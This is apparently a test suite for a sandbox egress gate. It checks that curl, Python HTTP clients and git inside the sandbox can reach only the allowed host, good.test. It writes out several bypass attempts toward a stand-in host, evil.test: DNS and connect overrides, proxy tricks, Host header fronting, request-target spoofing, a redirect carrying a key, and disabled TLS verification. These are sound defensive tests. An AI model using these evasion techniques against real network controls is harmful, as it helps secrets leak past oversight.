import test from 'ava'
import { startGitServer } from './support/git-server.ts'
import { caFile, startSandbox } from './support/sandbox.ts'
import { startServer, startTlsServer } from './support/servers.ts'

// What code that holds a bound secret may try with the clients of the image. The operator allows both names, and both
// lead to the same server on loopback, so nothing but the binding keeps the secret from evil.test.

const lookup = async () => ['127.0.0.1']
const CURL = `
import subprocess
def curl(*arguments):
    done = subprocess.run(['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code} %{http_connect}', '-m', '10', *arguments], capture_output=True, text=True)
    print(done.returncode, done.stdout)
`

test('curl reaches the allowed host only, whatever it is told about names, addresses and proxies', async (t) => {
  const { port, ca, seen } = await startTlsServer(t, ['good.test', 'evil.test'])
  const plain = await startServer(t)
  const { python } = await startSandbox(t, {
    allow: ['good.test', 'evil.test', '127.0.0.1'].flatMap((host) => [
      `${host}:${port}`,
      `${host}:${plain.port}`,
    ]),
    lookup,
    extraCaFile: await caFile(t, ca),
  })
  const { stdout, stderr, network } = await python(
    `${CURL}
curl('https://good.test:${port}/good')
curl('http://good.test:${plain.port}/good')
curl('-k', 'https://evil.test:${port}/1')
curl('http://evil.test:${plain.port}/2')
curl('-k', '--connect-to', 'good.test:${port}:evil.test:${port}', 'https://good.test:${port}/3')
curl('-k', '--connect-to', 'good.test:${port}:127.0.0.1:${port}', 'https://good.test:${port}/4')
curl('-k', '--connect-to', 'evil.test:${port}:good.test:${port}', 'https://evil.test:${port}/5')
curl('-k', '--resolve', 'evil.test:${port}:127.0.0.1', 'https://evil.test:${port}/6')
curl('-k', '--noproxy', '*', '--resolve', 'evil.test:${port}:127.0.0.1', 'https://evil.test:${port}/7')
curl('--proxytunnel', 'http://evil.test:${plain.port}/8')
curl('--proxytunnel', 'http://good.test:${plain.port}/9')
curl('-H', 'Host: evil.test', 'http://good.test:${plain.port}/fronted')
curl('--proxy-header', 'Host: good.test:${port}', '-k', 'https://evil.test:${port}/10')
curl('--request-target', 'http://evil.test:${plain.port}/11', 'http://good.test:${plain.port}/')
`,
    { allowedHosts: [['good.test']], timeoutSeconds: 30 },
  )
  const lines = stdout.trim().split('\n')
  t.deepEqual(lines.slice(0, 2), ['0 200 200', '0 200 000'], stderr)
  t.deepEqual(
    seen.map(({ url }) => url),
    ['/good'],
  )
  // What the server saw: nothing under another name, and no path that was meant for one.
  t.deepEqual(
    plain.seen.map(({ url, host }) => [url, host]),
    [
      ['/good', `good.test:${plain.port}`],
      ['/fronted', `good.test:${plain.port}`],
    ],
  )
  t.is(lines.length, 14)
  const codes = Object.fromEntries(network.map(({ host, port, refused }) => [`${host}:${port}`, refused]))
  t.is(codes[`evil.test:${port}`], 'secret_not_allowed')
  t.is(codes[`127.0.0.1:${port}`], 'secret_not_allowed')
})

test('a redirect from the allowed host to another one ends at the gate, in curl and in Python', async (t) => {
  const { port, seen } = await startServer(t, ({ url }, response) => {
    const to = url === '/away' ? `http://evil.test:${port}/landed?key=echoed` : null
    response.writeHead(to ? 302 : 200, to ? { location: to } : {}).end()
  })
  const { python } = await startSandbox(t, { allow: [`good.test:${port}`, `evil.test:${port}`], lookup })
  const { stdout } = await python(
    `${CURL}
import httpx, requests, urllib.request, urllib.error
URL = 'http://good.test:${port}/away'
curl('-L', URL)
print(requests.get(URL).status_code, httpx.get(URL, follow_redirects=True).status_code)
try: urllib.request.urlopen(URL)
except urllib.error.HTTPError as error: print(error.code, error.read().decode().split(':')[0])
`,
    { allowedHosts: [['good.test']] },
  )
  t.is(stdout, '0 403 000\n403 403\n403 secret_not_allowed\n')
  t.deepEqual(new Set(seen.map(({ url }) => url)), new Set(['/away']))
})

test('git clones from the allowed host, and from no other', async (t) => {
  const { port, ca } = await startGitServer(t, 'good.test', { 'README.md': '# Hello\n' })
  const { python } = await startSandbox(t, {
    allow: [`good.test:${port}`, `evil.test:${port}`],
    lookup,
    extraCaFile: await caFile(t, ca),
  })
  const { stdout } = await python(
    `
import subprocess
def clone(host, folder, *options):
    done = subprocess.run(['git', *options, 'clone', '--quiet', f'https://{host}:${port}/repo', folder], capture_output=True, text=True)
    print(done.returncode, '403' in done.stderr)
clone('good.test', '/tmp/a')
clone('evil.test', '/tmp/b')
clone('evil.test', '/tmp/c', '-c', 'http.sslVerify=false')
`,
    { allowedHosts: [['good.test']] },
  )
  t.is(stdout, '0 False\n128 True\n128 True\n')
})
